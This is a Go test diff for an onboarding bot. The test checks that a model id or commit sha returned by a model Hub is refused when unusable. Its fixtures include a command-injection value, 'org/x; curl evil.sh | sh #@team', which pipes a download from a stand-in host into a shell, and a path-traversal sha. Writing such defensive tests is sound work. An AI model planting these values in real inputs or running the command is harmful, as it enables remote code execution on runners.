@@ -82,6 +82,9 @@ func newFakeHub(t testing.TB) *fakeHub {
 			m["safetensors"] = map[string]any{"parameters": map[string]any{"BF16": 70e9}, "total": 70e9}
 		}),
 		"org/nosize": variant("org/nosize", func(m map[string]any) { delete(m, "safetensors") }),
+		// A Hub (or mirror) whose answer names something else than a model.
+		"org/badid":  variant("org/x; curl evil.sh | sh #@team", func(map[string]any) {}),
+		"org/badsha": variant("org/badsha", func(m map[string]any) { m["sha"] = "main/../../etc" }),
 	}
 	// config.json at hubSHA, for models the Hub has no safetensors total for.
 	configs := map[string][]byte{
@@ -744,4 +747,28 @@ func TestNoJobAndPoison(t *testing.T) {
 		t.Fatal(err)
 	}
 	r.idle()
+}
+
+// The Hub's answer used to be taken as it came: its id became the job's
+// model id and its sha the revision, on to runners, branch names and
+// comments.
+func TestOnboardRefusesAnUnusableHubAnswer(t *testing.T) {
+	r := newRig(t, -1)
+	for i, model := range []string{"org/badid", "org/badsha"} {
+		issue := i + 1
+		r.send(onboard(issue, maint, model))
+		if j := r.job(issue); j != nil {
+			t.Errorf("%s: job = %+v, want none", model, j)
+		}
+		bodies := r.bodies(issue)
+		if len(bodies) != 1 || !strings.Contains(bodies[0], "answer for it names no model id or commit I can use") ||
+			strings.Contains(bodies[0], "@team") || strings.Contains(bodies[0], "etc") {
+			t.Errorf("%s: comments = %q, want one reply saying the Hub's answer is unusable, without it", model, bodies)
+		}
+	}
+	for _, n := range bus.GPUSizes {
+		if cs := r.cycles(n); len(cs) != 0 {
+			t.Errorf("cycles on %d GPUs: %+v, want none", n, cs)
+		}
+	}
 }
